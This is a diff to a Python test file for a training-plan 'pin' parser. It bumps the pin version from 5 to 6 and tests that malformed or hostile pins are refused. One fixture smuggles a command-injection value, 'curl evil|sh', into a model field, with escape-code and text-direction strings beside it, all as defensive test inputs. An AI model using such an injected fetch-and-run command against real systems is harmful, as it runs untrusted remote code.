@@ -30,7 +30,7 @@ from planner.plan.presets import presets
 from random_plans import plans
 
 GRPO = presets()["grpo-7b@1"].plan
-GOOD = "5~grpo-7b@1~name.More GPUs~gpus.16"
+GOOD = "6~grpo-7b@1~name.More GPUs~gpus.16"
 names = st.text(st.characters(categories=("L", "N", "P", "S")), max_size=NAME_CHARACTERS)
 
 
@@ -52,6 +52,7 @@ def test_a_file_reads_back_as_the_same_plans(several: list[Plan], name: str) -> 
 def test_a_pin_is_short_and_says_what_differs() -> None:
     assert from_pin(GOOD) == Pinned(GRPO.changed(gpus=16), "More GPUs")
     assert to_pin(from_pin(GOOD)) == GOOD
+    assert from_pin(f"5{GOOD[1:]}") == from_pin(GOOD)
     assert max(len(to_pin(Pinned(one.plan))) for one in presets().values()) < 40
 
 
@@ -67,7 +68,7 @@ def test_values_with_tildes_and_dots_come_back() -> None:
 
 
 def test_a_broken_pin_is_named_and_the_others_are_kept() -> None:
-    kept, problems = from_pins([GOOD, "5~grpo-7b@1~gpus.seven", to_pin(Pinned(GRPO)), "nonsense"])
+    kept, problems = from_pins([GOOD, "6~grpo-7b@1~gpus.seven", to_pin(Pinned(GRPO)), "nonsense"])
     assert kept == (from_pin(GOOD), Pinned(GRPO))
     assert [one.field for one in problems] == ["pin 2", "pin 4"]
     assert "gpus is not a whole number" in problems[0].message
@@ -87,21 +88,21 @@ def test_a_plan_that_is_pinned_twice_stands_once_and_a_fifth_is_refused() -> Non
     ("pin", "says"),
     [
         ("", "version and a preset"),
-        ("5", "version and a preset"),
+        ("6", "version and a preset"),
         ("99~grpo-7b@1", "reads up to version"),
-        ("５~grpo-7b@1", "version and a preset"),
-        ("5~no-such@1", "no preset no-such@1"),
-        ("5~grpo-7b@1~gpus.8~gpus.16", "gives gpus twice"),
-        ("5~grpo-7b@1~gpus", "no field"),
-        ("5~grpo-7b@1~v.1", "no field"),
-        ("5~grpo-7b@1~calibration.1", "no field"),
-        ("5~grpo-7b@1~<b>.1", "no field"),
-        ("5~grpo-7b@1~name.\x1b[31m", "cannot be printed"),
-        ("5~grpo-7b@1~name.\u202egnp", "cannot be printed"),
-        (f"5~grpo-7b@1~name.{'x' * 41}", "more than 40"),
-        ("5~grpo-7b@1~sharding.none", "cannot be used"),
-        ("5~grpo-7b@1~model.nobody/x; curl evil|sh", "cannot be used"),
-        ("5~grpo-7b@1~" + "x" * MOST_CHARACTERS, "more than 3,000"),
+        ("６~grpo-7b@1", "version and a preset"),
+        ("6~no-such@1", "no preset no-such@1"),
+        ("6~grpo-7b@1~gpus.8~gpus.16", "gives gpus twice"),
+        ("6~grpo-7b@1~gpus", "no field"),
+        ("6~grpo-7b@1~v.1", "no field"),
+        ("6~grpo-7b@1~calibration.1", "no field"),
+        ("6~grpo-7b@1~<b>.1", "no field"),
+        ("6~grpo-7b@1~name.\x1b[31m", "cannot be printed"),
+        ("6~grpo-7b@1~name.\u202egnp", "cannot be printed"),
+        (f"6~grpo-7b@1~name.{'x' * 41}", "more than 40"),
+        ("6~grpo-7b@1~sharding.none", "cannot be used"),
+        ("6~grpo-7b@1~model.nobody/x; curl evil|sh", "cannot be used"),
+        ("6~grpo-7b@1~" + "x" * MOST_CHARACTERS, "more than 3,000"),
     ],
 )
 def test_a_hostile_pin_is_refused_whole_in_a_sentence(pin: str, says: str) -> None:
